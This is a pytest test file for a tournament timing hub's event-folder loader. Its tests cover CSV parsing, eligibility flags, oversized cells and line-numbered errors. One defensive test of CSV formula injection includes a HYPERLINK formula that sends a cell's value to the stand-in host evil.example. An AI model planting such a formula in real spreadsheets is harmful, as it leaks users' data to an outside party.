"""Event folders: init from a preset, CSV entrants and stations as
registration tools export them, clear errors with line numbers."""

from __future__ import annotations

import re

import pytest

from tabletimer.hub.event.folder import event_folder as ef


def test_init_then_load_every_preset(tmp_path):
    from tabletimer.hub.rules.formats import preset_names

    for name in preset_names():
        d = ef.init(tmp_path / name, name)
        ev = ef.load(d)
        assert ev.format.name and ev.entrants and ev.stations
        assert all(ev.station(s.board, s.button) == s for s in ev.stations)
    with pytest.raises(ef.EventFolderError, match="already holds an event"):
        ef.init(tmp_path / name, name)


def test_bom_semicolons_members_and_eligibility(tmp_path):
    d = ef.init(tmp_path / "ev", "rogaland-teams")
    (d / "entrants.csv").write_bytes(
        "\ufeffID;Name;Kind;Members;Eligible;Notes\n"
        "T1;Bitene;team;Åse|Bjørn|Cato|Dina;yes|yes|no|yes;\n"
        "T2;Gjester;team;Eva|Finn|Gro;no|no|yes;unofficial\n".encode("utf-8"))
    (d / "stations.csv").write_text("board;button;table;entrant;puzzle\nT01;1;Bord 1;T1;\nT02;1;Bord 2;T2;\n")
    ev = ef.load(d)
    t1, t2 = ev.entrants
    assert t1.name == "Bitene" and [m.name for m in t1.members] == ["Åse", "Bjørn", "Cato", "Dina"]
    assert [m.eligible for m in t1.members] == [True, True, False, True]
    from tabletimer.hub.rules.standings import is_official
    assert is_official(ev.format, t1) and not is_official(ev.format, t2)
    assert ev.station("T02", 1).entrant == "T2" and ev.station("T02", 1).table == "Bord 2"


# cells a spreadsheet would run as a formula, and names that begin with a quote of their own
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+1", "-2+3", "@SUM(1+1)"]
QUOTED = ["'t Hooft", "'=not neutralised by us", "''@twice", "Plain"]


def test_entrants_and_stations_written_as_the_hub_writes_csv_read_back_unchanged(tmp_path):
    """CSV formula injection (issue #33 item 5): files written by csv_text
    (a quote before a cell that begins with = + - @, tab or CR; text cells
    in double quotes) are read back as they were: ids, names, members,
    tables; a name's own leading quote stays."""
    from tabletimer.hub.event.folder.csv_cells import csv_text

    d = ef.init(tmp_path / "ev", "rogaland-teams")
    names = FORMULAS + QUOTED
    ids = [f"{'-+@='[i % 4]}{i}" for i in range(len(names))]          # ids that look like formulas too
    members = [[n, f"@m{i}", f"-m{i}"] for i, n in enumerate(names)]
    text = csv_text([ef.ENTRANT_COLUMNS] + [
        (e, n, "team", "|".join(m), "yes|yes|no", "=note") for e, n, m in zip(ids, names, members)])
    (d / "entrants.csv").write_text(text, encoding="utf-8")
    (d / "stations.csv").write_text(csv_text([ef.STATION_COLUMNS] + [
        (f"T{i + 1:02d}", 1, f"-Table {i + 1}", e, "") for i, e in enumerate(ids)]), encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"' in text
    for cell in ("'-2+3", "'@SUM(1+1)", "'+1+1", "'t Hooft", "''=not neutralised by us",
                 "'''@twice", "'-0", "'+1", "'@2", "'=3", "'=note"):
        assert f'"{cell}"' in text, cell
    ev = ef.load(d)
    assert [(e.id, e.name, [m.name for m in e.members]) for e in ev.entrants] == list(zip(ids, names, members))
    assert [(s.entrant, s.table) for s in ev.stations] == [(e, f"-Table {i + 1}") for i, e in enumerate(ids)]


def test_cells_a_registration_tool_neutralised_are_read_without_the_quote(tmp_path):
    """An export that put a quote before = + - @ (OWASP's rule, as the hub's
    own CSV files do) gives the names without it; other quotes stay."""
    d = ef.init(tmp_path / "ev", "cz-championship-individuals")
    (d / "entrants.csv").write_text("id;name\n1;'=SUM(A1:A2)\n2;'-5\n3;'+Anna\n4;'@Ben\n5;'t Hooft\n"
                                    "6;  '=trimmed  \n7;'\n", encoding="utf-8")
    (d / "stations.csv").write_text("board;button;entrant\n" + "".join(f"T01;{i};{i}\n" for i in range(1, 8)))
    assert [e.name for e in ef.load(d).entrants] == ["=SUM(A1:A2)", "-5", "+Anna", "@Ben", "'t Hooft",
                                                     "=trimmed", "'"]


@pytest.mark.parametrize("entrants,stations,message", [
    ("id,name\n1,A\n1,B\n", "board,button,entrant\nT01,1,1\n", r"entrants.csv:3: id '1' already used on line 2"),
    ("id,name,kind\n1,A,team\n", "board,button,entrant\nT01,1,1\n", r"entrants.csv:2: kind 'team'"),
    ("id,name,colour\n1,A,red\n", "board,button,entrant\nT01,1,1\n", r"entrants.csv:1: unknown column\(s\) colour"),
    ("id,name,eligible\n1,A,perhaps\n", "board,button,entrant\nT01,1,1\n", r"entrants.csv:2 \(eligible\): expected yes or no"),
    ("id,name\n1,A\n", "board,button,entrant\nT01,x,1\n", r"stations.csv:2: button must be a number"),
    ("id,name\n1,A\n", "board,button,entrant\nT 1,1,1\n", r"stations.csv:2: board"),
    ("id,name\n1,A\n", "board,button,entrant\nT01,1,9\n", r"stations.csv:2: no entrant '9'"),
    ("id,name\n1,A\n", "board,button,entrant\nT01,1,1\nT01,1,1\n", r"stations.csv:3: T01 button 1 already on line 2"),
    ("id,name\n1,A\n", "board,button,entrant,puzzle\nT01,1,1,2\n", r"stations.csv:2: puzzle 2; the format has 1"),
    ("id,name\n1,A\n", "board,entrant\nT01,1\n", r"stations.csv:1: missing column\(s\) button"),
])
def test_bad_rows_are_named_by_file_and_line(tmp_path, entrants, stations, message):
    d = ef.init(tmp_path / "ev", "cz-championship-individuals")
    (d / "entrants.csv").write_text(entrants)
    (d / "stations.csv").write_text(stations)
    with pytest.raises(ef.EventFolderError, match=message):
        ef.load(d)


@pytest.mark.parametrize("name, cell", [
    ("entrants.csv", "x" * 10_000_000),         # the 10 MB cell: past the csv module's limit
    ("entrants.csv", "x" * 501),                # past the event's own
    ("stations.csv", "T" * 200_000),
    ("entrants.csv", '"Ben' + "\n3,Carl,yes" * 60),   # a quote left open: the rest of the file in one cell
], ids=["10MB-entrants", "501-entrants", "200K-stations", "open-quote"])
def test_an_oversized_cell_is_one_line_naming_the_file_and_its_line(tmp_path, capsys, name, cell):
    """Issue 44, item 7: a 10 MB cell in entrants.csv gave a traceback
    (_csv.Error: field larger than field limit); every command that opens
    the event now says which file and line, and what to do."""
    from tabletimer.hub.cli import main as cli

    d = ef.init(tmp_path / "ev", "czjpa-individuals")
    entrants, stations = "id,name,eligible\n1,Anna,yes\n2,Ben,yes\n", "board,button,table,entrant\nT01,1,A,1\nT01,2,A,2\n"
    if name == "entrants.csv":
        entrants = f"id,name,eligible\n1,Anna,yes\n2,{cell},yes\n"
    else:
        stations = f"board,button,table,entrant\nT01,1,A,1\nT01,2,{cell},2\n"
    (d / "entrants.csv").write_text(entrants)
    (d / "stations.csv").write_text(stations)
    with pytest.raises(ef.EventFolderError, match=rf"{name}:3: a cell of (more than )?\d+ characters; a cell holds "
                                                  r"at most 500 .*check that this is the right file"):
        ef.load(d)
    for command in (["replay", str(d)], ["act", str(d), "round_start"], ["results", str(d)]):
        assert cli.main(command) == 2
        err = capsys.readouterr().err
        assert err.startswith(f"error: {d / name}:3: a cell of ") and err.count("\n") == 1 and len(err) < 400, err
    assert not (d / "events.sqlite").exists()           # refused: nothing written


def test_a_cell_of_500_characters_is_read(tmp_path):
    d = ef.init(tmp_path / "ev", "czjpa-individuals")
    (d / "entrants.csv").write_text(f"id,name,eligible,notes\n1,Anna,yes,{'n' * 500}\n")
    (d / "stations.csv").write_text(f"board,button,table,entrant\nT01,1,{'t' * 500},1\n")
    ev = ef.load(d)
    assert ev.stations[0].table == "t" * 500


def test_warnings_for_capacity_duplicate_names_and_missing_stations(tmp_path):
    d = ef.init(tmp_path / "ev", "czjpa-individuals")      # capacity 100
    rows = ["id,name,eligible"] + [f"{i},Person {i},yes" for i in range(1, 102)] + ["102,Person 1,no"]
    (d / "entrants.csv").write_text("\n".join(rows) + "\n")
    (d / "stations.csv").write_text("board,button,entrant\nT01,1,1\n")
    ev = ef.load(d)
    text = "\n".join(ev.warnings)
    assert "102 entrants; the format allows 100" in text
    assert "name 'Person 1' also on line 2" in text
    # an entrant without a station (a reserve) is no warning of every command (issue 45 item 13):
    # the hub's start says it
    assert "no station for" not in text and ev.without_station == tuple(str(i) for i in range(2, 103))
    assert ev.without_station_note().startswith(f"{d / 'stations.csv'}: no station for 2, 3, 4, 5, 6, 7, 8, 9, 10, "
                                                "11 ... (reserves?")


def test_a_format_with_prizes_for_eligible_entrants_only_needs_the_eligible_column(tmp_path):
    # czjpa: prizes only for participants from the Czech Republic; read without
    # the column, a foreigner would be official and could take a Czech prize
    d = ef.init(tmp_path / "ev", "czjpa-individuals")
    (d / "stations.csv").write_text("board,button,entrant\nT01,1,1\nT01,2,2\n")
    (d / "entrants.csv").write_text("id,name\n1,Jana\n2,Hans\n")
    with pytest.raises(ef.EventFolderError, match=r"entrants.csv:1: missing column\(s\) eligible: format.toml "
                       r"\(prizes.eligible_members_min = 1\) gives prizes only to eligible entrants \(participants from the "
                       r"Czech Republic\); add the column with yes or no"):
        ef.load(d)
    (d / "entrants.csv").write_text("id,name,eligible\n1,Jana,yes\n2,Hans,\n")
    with pytest.raises(ef.EventFolderError, match=r"entrants.csv:3: 'eligible' is empty"):
        ef.load(d)
    (d / "entrants.csv").write_text("id,name,eligible\n1,Jana,yes\n2,Hans,no\n")
    from tabletimer.hub.rules.standings import is_official
    ev = ef.load(d)
    assert [is_official(ev.format, e) for e in ev.entrants] == [True, False]
    # a team's members: every one yes or no
    t = ef.init(tmp_path / "teams", "rogaland-teams")
    (t / "entrants.csv").write_text("id,name,members,eligible\nT1,Lag,A|B|C,yes||yes\n")
    with pytest.raises(ef.EventFolderError, match=r"entrants.csv:2: 'eligible' is empty.*for every member"):
        ef.load(t)
    # a format where everyone is official does not need it
    c = ef.init(tmp_path / "open", "cz-championship-individuals")
    (c / "entrants.csv").write_text("id,name\n1,Jana\n")
    (c / "stations.csv").write_text("board,button,entrant\nT01,1,1\n")
    assert ef.load(c).entrants[0].eligible


def test_init_with_an_unknown_preset_names_the_nearest(tmp_path, capsys):
    from tabletimer.hub.cli import main as cli

    assert cli.main(["init", str(tmp_path / "ev"), "--format", "czjpa-individual"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: no such preset 'czjpa-individual'; did you mean 'czjpa-individuals'"), err
    assert "Traceback" not in err and not (tmp_path / "ev").exists()
    assert cli.main(["init", str(tmp_path / "ev"), "--format", "nothing-like-it"]) == 2
    err = capsys.readouterr().err
    assert "no such preset 'nothing-like-it'; (presets: cz-championship-individuals" in err
    # a format file of one's own works too
    from tabletimer.hub.rules.formats import format_text

    own = tmp_path / "mine.toml"
    own.write_text(format_text("rogaland-pairs"))
    assert cli.main(["init", str(tmp_path / "second"), "--format", str(own)]) == 0
    assert ef.load(tmp_path / "second").format.kind == "pair"


# a file name or a path (seeds/..., docs/formats.md, 000_....txt) in a generated file
_REFERENCE = re.compile(r"[\w.-]+/[\w./-]*\w|[\w-]+(?:\.[\w-]+)*\.(?:txt|md|toml|csv|json|sqlite|html)\b")


def test_generated_files_cite_nothing_the_event_folder_lacks(tmp_path):
    from tabletimer.hub.rules.formats import preset_names

    for name in preset_names():
        d = ef.init(tmp_path / name, name)
        for f in sorted(d.iterdir()):
            for ref in _REFERENCE.findall(f.read_text()):
                if re.fullmatch(r"[a-z]+(?:/[a-z]+)+", ref):
                    continue          # words, such as yes/no or found/lost/adjacent
                assert (d / ref).exists(), f"{f.name} of {name} cites {ref!r}, which the folder does not have"


def test_eligible_takes_yes_and_no_in_the_seeds_languages(tmp_path):
    """Issue 45 item 13: Danish "nej" (and "j") as Norwegian "nei" and Czech
    "ne" were; a word that is none says which are taken."""
    d = ef.init(tmp_path / "ev", "czjpa-individuals")
    (d / "entrants.csv").write_text("id,name,eligible\n1,A,ja\n2,B,nej\n3,C,j\n4,D,nei\n5,E,ano\n6,F,ne\n7,G,Nej\n")
    (d / "stations.csv").write_text("board,button,entrant\n" + "".join(f"T01,{i},{i}\n" for i in range(1, 8)))
    assert [e.eligible for e in ef.load(d).entrants] == [True, False, True, False, True, False, False]
    (d / "entrants.csv").write_text("id,name,eligible\n1,A,kanske\n")
    with pytest.raises(ef.EventFolderError, match=r"expected yes or no \(ja, nei or nej; ano or ne\), not 'kanske'"):
        ef.load(d)
